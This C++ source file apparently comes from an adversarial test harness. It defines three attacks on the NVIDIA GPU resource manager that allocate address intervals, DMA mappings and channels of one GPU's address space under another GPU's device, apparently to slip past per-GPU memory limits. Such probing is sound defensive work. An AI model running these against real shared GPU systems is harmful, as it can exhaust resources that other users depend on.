// Attacks that name one GPU's objects below another GPU's device: each GPU has a limit of its own.
#include "common.h"
#include "rm/vidmem.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint32_t kDevices[2] = {0xcaf00011, 0xcaf00021};
constexpr std::uint32_t kSpace = 0xcaf00013;  // of GPU 0

// A client with both GPUs and an address space of GPU 0.
Client MakeBoth() {
  const Client client = MakeRoot();
  (void)OpenGpu(1);
  for (std::uint32_t gpu = 0; gpu < 2; ++gpu) {
    rm::NV0080_ALLOC_PARAMETERS device{};
    device.deviceId = gpu;
    rm::NV2080_ALLOC_PARAMETERS subdevice{};
    const std::uint32_t handle = kDevices[gpu];
    if (client.Alloc(client.root, handle, rm::NV01_DEVICE_0, &device, sizeof(device)) !=
            rm::NV_OK ||
        client.Alloc(handle, handle + 1, rm::NV20_SUBDEVICE_0, &subdevice, sizeof(subdevice)) !=
            rm::NV_OK) {
      Die("failed: no GPU %u", gpu);
    }
  }
  rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 space{};
  if (client.Alloc(kDevices[0], kSpace, rm::FERMI_VASPACE_A, &space) != rm::NV_OK) {
    Die("failed: no address space");
  }
  return client;
}

// Takes so much memory of GPU 0, or what there is.
void TakeOwn(Client& client, std::uint64_t mib) {
  client.used_device = kDevices[0];
  Say("own %llu MiB", static_cast<unsigned long long>(Grab(client, mib, 1)));
}

// MIB OWN: intervals of GPU 0's addresses below GPU 1's device. They have their tables from the
// start. OWN MiB of GPU 0's memory come first.
int Intervals(const std::vector<std::string>& args) {
  constexpr std::uint64_t kLength = std::uint64_t{1} << 30;  // 2 MiB of tables
  const std::uint64_t wanted = Number(args, 0, 24) * kMiB / (kLength / rm::kPageHuge * 4096);
  Client client = MakeBoth();
  TakeOwn(client, Number(args, 1, 12));
  std::uint64_t made = 0;
  std::uint32_t status = rm::NV_OK;
  for (; made < wanted; ++made) {
    rm::NV_MEMORY_ALLOCATION_PARAMS range{};
    range.size = kLength;
    range.attr = rm::NVOS32_ATTR_PAGE_SIZE.Set(0, rm::NVOS32_ATTR_PAGE_SIZE_4KB);
    range.flags = rm::NVOS32_ALLOC_FLAGS_VIRTUAL;
    range.hVASpace = kSpace;
    status =
        client.Alloc(kDevices[1], client.next++, rm::NV50_MEMORY_VIRTUAL, &range, sizeof(range));
    if (status != rm::NV_OK) {
      break;
    }
  }
  Say("made %llu status 0x%x", static_cast<unsigned long long>(made), status);
  Hold();
  return 0;
}

// GPU MIB OWN: mappings of one object of that GPU through a range of GPU 0's addresses below GPU
// 1's device, one at every second MiB.
int Mappings(const std::vector<std::string>& args) {
  constexpr std::uint64_t kBase = std::uint64_t{1} << 40;
  const std::uint32_t device = kDevices[Number(args, 0, 1) % 2];
  const std::uint64_t wanted = Number(args, 1, 24) * kMiB / rm::kPage4K;
  Client client = MakeBoth();
  TakeOwn(client, Number(args, 2, 12));
  rm::NV_MEMORY_ALLOCATION_PARAMS memory = MemoryParams(kMiB);
  rm::NV_MEMORY_VIRTUAL_ALLOCATION_PARAMS range{};
  range.limit = (std::uint64_t{1} << 47) - 1;
  range.hVASpace = kSpace;
  const std::uint32_t object = client.next++;
  const std::uint32_t handle = client.next++;
  if (client.Alloc(device, object, rm::NV01_MEMORY_LOCAL_USER, &memory) != rm::NV_OK) {
    Die("failed: no memory");
  }
  std::uint32_t status =
      client.Alloc(kDevices[1], handle, rm::NV01_MEMORY_VIRTUAL, &range, sizeof(range));
  Say("range 0x%x", status);
  std::uint64_t made = 0;
  for (; made < wanted && status == rm::NV_OK; ++made) {
    rm::NVOS46_PARAMETERS_V535 map{};
    map.hClient = client.root;
    map.hDevice = device;
    map.hDma = handle;
    map.hMemory = object;
    map.length = rm::kPage4K;
    map.flags = rm::NVOS46_FLAGS_PAGE_SIZE.Set(0, rm::NVOS46_FLAGS_PAGE_SIZE_4KB) |
                rm::NVOS46_FLAGS_DMA_OFFSET_FIXED.Set(0, 1);
    map.dmaOffset = kBase + made * rm::kPageHuge;
    const int error = client.issue(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map));
    status = error != 0 ? kNoAnswer : map.status;
    if (status != rm::NV_OK) {
      break;
    }
  }
  Say("made %llu status 0x%x", static_cast<unsigned long long>(made), status);
  Hold();
  return 0;
}

// Channel groups, a channel by itself and a context share of GPU 1 in GPU 0's address space.
int Channels(const std::vector<std::string>&) {
  Client client = MakeBoth();
  rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS group{};
  group.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
  const std::uint32_t bare = client.next++;
  if (client.Alloc(kDevices[1], bare, rm::KEPLER_CHANNEL_GROUP_A, &group, sizeof(group)) !=
      rm::NV_OK) {
    Die("failed: no channel group");
  }
  rm::NV_CTXSHARE_ALLOCATION_PARAMETERS share{};
  share.hVASpace = kSpace;
  Say("share 0x%x",
      client.Alloc(bare, client.next++, rm::FERMI_CONTEXT_SHARE_A, &share, sizeof(share)));
  group.hVASpace = kSpace;
  const std::uint32_t named = client.next++;
  Say("group 0x%x",
      client.Alloc(kDevices[1], named, rm::KEPLER_CHANNEL_GROUP_A, &group, sizeof(group)));
  rm::NV_CHANNEL_ALLOC_PARAMS_V535 channel{};
  channel.hVASpace = kSpace;
  channel.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
  Say("channel 0x%x", client.Alloc(kDevices[1], client.next++, rm::VOLTA_CHANNEL_GPFIFO_A, &channel,
                                   sizeof(channel)));
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> AcrossAttacks() {
  return {
      {"across-intervals", Intervals, "[MIB [OWN]]: intervals of GPU 0's addresses, below GPU 1"},
      {"across-mappings", Mappings,
       "GPU [MIB [OWN]]: mappings in such a range, of memory of that GPU"},
      {"across-channels", Channels, "channels of GPU 1 in GPU 0's address space"},
  };
}

}  // namespace cgpu::adversary
